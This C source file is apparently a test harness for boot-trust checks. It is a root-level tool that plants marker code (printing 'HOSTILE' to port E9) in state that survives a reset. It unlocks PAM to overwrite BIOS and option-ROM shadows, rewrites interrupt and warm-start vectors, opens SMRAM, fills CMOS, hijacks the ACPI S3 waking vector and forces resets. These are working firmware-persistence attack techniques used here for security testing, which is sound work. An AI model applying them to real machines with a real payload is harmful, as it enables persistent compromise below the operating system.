/* SPDX-License-Identifier: MIT */
/*
 * What a hostile root user can leave behind for the next boot.
 *
 *   attack <step>...     the steps are done in the order given
 *
 * Each step writes one kind of state that survives a reset; the machine is
 * restarted by one of the reset steps.  The planted code prints "HOSTILE" on
 * the debug console at port E9h, works in 16-bit and in 32-bit mode alike and
 * is entered at any offset.  The tests in test_trust.py say what must not
 * come of it.  Needs /dev/mem with iomem=relaxed.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE        4096u

/* Host bridge PAM0: i440FX 59h, Q35 90h; seven registers. */
#define I440FX      0x12378086u
#define Q35         0x29c08086u
#define PIIX4_PM    0x71138086u
#define ICH9_LPC    0x29188086u

#define CMOS_SHUTDOWN   0x0fu

static void die(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint32_t pci_address(unsigned dev, unsigned fn, unsigned reg)
{
    return 0x80000000u | dev << 11 | fn << 8 | (reg & 0xfcu);
}

static uint32_t pci_read(unsigned dev, unsigned fn, unsigned reg)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    return inl(0xcfc);
}

static uint8_t pci_read8(unsigned dev, unsigned fn, unsigned reg)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    return inb(0xcfc + (reg & 3u));
}

static void pci_write8(unsigned dev, unsigned fn, unsigned reg, uint8_t v)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    outb(v, 0xcfc + (reg & 3u));
}

static unsigned pam_base(void)
{
    switch (pci_read(0, 0, 0)) {
    case I440FX: return 0x59;
    case Q35:    return 0x90;
    }
    fprintf(stderr, "attack: unknown host bridge\n");
    exit(1);
}

/* Ports of the power management block, or 0. */
static unsigned pm_base(void)
{
    if (pci_read(31, 0, 0) == ICH9_LPC)
        return pci_read(31, 0, 0x40) & 0xff80u;
    if (pci_read(1, 3, 0) == PIIX4_PM)
        return pci_read(1, 3, 0x40) & 0xffc0u;
    return 0;
}

static volatile uint8_t *map(uint32_t at, size_t len)
{
    int fd = open("/dev/mem", O_RDWR);
    uint8_t *p;

    if (fd < 0)
        die("/dev/mem");
    p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, at);
    if (p == MAP_FAILED)
        die("mmap of physical memory");
    close(fd);
    return p;
}

/*
 * A block of 4 KiB: NOPs, then the code.  Wherever it is entered, it gets to
 * the code, unless that is within the code itself.
 */
static void hostile_page(uint8_t *page)
{
    static const char text[] = "HOSTILE\n";
    uint8_t code[sizeof(text) * 4 + 4], *p = code;

    for (const char *t = text; *t; t++) {
        *p++ = 0xb0;            /* mov al, *t */
        *p++ = (uint8_t)*t;
        *p++ = 0xe6;            /* out 0e9h, al */
        *p++ = 0xe9;
    }
    *p++ = 0xfa;                /* cli */
    *p++ = 0xf4;                /* hlt */
    *p++ = 0xeb;                /* jmp to itself */
    *p++ = 0xfe;
    memset(page, 0x90, PAGE);
    memcpy(page + PAGE - (size_t)(p - code), code, (size_t)(p - code));
}

static void fill(uint32_t from, uint32_t to)
{
    uint8_t page[PAGE];
    unsigned kept = 0;

    hostile_page(page);
    for (uint32_t at = from; at < to; at += PAGE) {
        volatile uint8_t *p = map(at, PAGE);

        for (unsigned i = 0; i < PAGE; i++)
            p[i] = page[i];
        for (unsigned i = 0; i < PAGE; i++)
            kept += p[i] == page[i];
        munmap((void *)p, PAGE);
    }
    printf("attack: %x-%x: %u of %u bytes hold hostile code\n", from, to,
           kept, to - from);
}

/* All of C0000-FFFFF read and written as RAM. */
static void step_pam(void)
{
    unsigned base = pam_base();

    for (unsigned i = 0; i < 7; i++)
        pci_write8(0, 0, base + i, i ? 0x33 : 0x30);
    for (unsigned i = 0; i < 7; i++)
        printf("%02x ", pci_read8(0, 0, base + i));
    printf("attack: PAM unlocked\n");
}

static void step_bios(void)
{
    step_pam();
    fill(0xe0000, 0x100000);
}

static void step_roms(void)
{
    step_pam();
    fill(0xc0000, 0xe0000);
}

/* Vectors, BDA and 40:67 in page 0, EBDA at the end of low RAM. */
static void step_low(void)
{
    volatile uint8_t *p = map(0, PAGE);

    for (unsigned i = 0; i < 0x400; i += 4) {
        p[i] = 0;
        p[i + 1] = 0x06;        /* 0000:0600 */
        p[i + 2] = p[i + 3] = 0;
    }
    p[0x467] = 0;
    p[0x468] = 0x06;
    p[0x469] = p[0x46a] = 0;
    p[0x472] = 0x34;            /* "warm start" */
    p[0x473] = 0x12;
    munmap((void *)p, PAGE);
    {
        uint8_t page[PAGE];
        volatile uint8_t *q = map(0, PAGE);

        hostile_page(page);
        for (unsigned i = 0x600; i < PAGE; i++)
            q[i] = page[i];
        printf("attack: page 0 %s\n", q[PAGE - 1] == 0xfe && q[0x468] == 6 ?
               "holds hostile code and vectors" : "could not be written");
        munmap((void *)q, PAGE);
    }
}

static void step_ebda(void)
{
    fill(0x9f000, 0xa0000);
}

static void step_smram(void)
{
    unsigned base = pam_base(), reg = base == 0x59 ? 0x72 : 0x9d;

    pci_write8(0, 0, reg, 0x4a);        /* open for access */
    printf("attack: SMRAM register %02x after opening\n",
           pci_read8(0, 0, reg));
    fill(0xa0000, 0xc0000);
}

static void cmos(unsigned index, uint8_t v)
{
    outb((uint8_t)(0x80u | index), 0x70);
    outb(v, 0x71);
}

static void step_cmos_all(void)
{
    for (unsigned i = 0x0e; i < 0x80; i++)
        cmos(i, 0xff);
    printf("attack: CMOS filled\n");
}

/*
 * A resume from S3 that never slept: the code in CMOS and a waking vector to
 * hostile code, if the FACS can be found.
 */
static uint32_t le32(const volatile uint8_t *p)
{
    return (uint32_t)(p[0] | p[1] << 8 | p[2] << 16) | (uint32_t)p[3] << 24;
}

static void step_s3(void)
{
    FILE *f = fopen("/sys/firmware/acpi/tables/FACP", "rb");
    uint8_t fadt[64] = { 0 };
    uint32_t facs;
    volatile uint8_t *p;

    cmos(CMOS_SHUTDOWN, 0xfe);
    if (f == NULL || fread(fadt, 1, sizeof(fadt), f) < 40) {
        printf("attack: CMOS says S3; no FADT\n");
        return;
    }
    fclose(f);
    facs = le32(fadt + 36);
    p = map(facs & ~(PAGE - 1), 2 * PAGE) + (facs & (PAGE - 1));
    printf("attack: FACS at %x signature %c%c%c%c\n", facs, p[0], p[1], p[2],
           p[3]);
    p[12] = 0;
    p[13] = 0x06;               /* 0000:0600, where "low" put code */
    p[14] = p[15] = 0;
    printf("attack: CMOS says S3, waking vector %x\n", le32(p + 12));
}

/* The memory overwrite byte of QEMU's PPI page: RAM is wiped at the reset. */
static void step_movv(void)
{
    volatile uint8_t *p = map(0xfed45000, PAGE);

    p[0x15a] = 1;
    printf("attack: overwrite request %02x\n", p[0x15a]);
}

static void reset_cf9(void)
{
    outb(0x02, 0xcf9);
    outb(0x06, 0xcf9);
}

static void reset_keyboard(void)
{
    outb(0xfe, 0x64);
}

/* S3 by hand: no driver saves the TPM's state. */
static void sleep_now(void)
{
    unsigned pm = pm_base();

    if (pm == 0) {
        fprintf(stderr, "attack: no power management block\n");
        exit(1);
    }
    /* SLP_TYP 1 is S3 on both chipsets as QEMU describes them; SLP_EN. */
    outw((uint16_t)((inw(pm + 4) & 0x03ff) | 1u << 10 | 1u << 13), pm + 4);
}

static const struct {
    const char *name;
    void (*run)(void);
} steps[] = {
    { "pam", step_pam },
    { "bios", step_bios },
    { "roms", step_roms },
    { "low", step_low },
    { "ebda", step_ebda },
    { "smram", step_smram },
    { "cmos-all", step_cmos_all },
    { "s3", step_s3 },
    { "movv", step_movv },
    { "cf9", reset_cf9 },
    { "kbd", reset_keyboard },
    { "sleep", sleep_now },
};

static int run_step(const char *name)
{
    unsigned code;

    if (sscanf(name, "cmos=%x", &code) == 1) {
        cmos(CMOS_SHUTDOWN, (uint8_t)code);
        printf("attack: CMOS shutdown code %02x\n", code);
        return 0;
    }
    for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++)
        if (strcmp(steps[i].name, name) == 0) {
            steps[i].run();
            fflush(stdout);
            return 0;
        }
    fprintf(stderr, "attack: unknown step %s\n", name);
    return 1;
}

int main(int argc, char **argv)
{
    if (iopl(3) != 0)
        die("iopl");
    for (int i = 1; i < argc; i++)
        if (run_step(argv[i]) != 0)
            return 2;
    return 0;
}
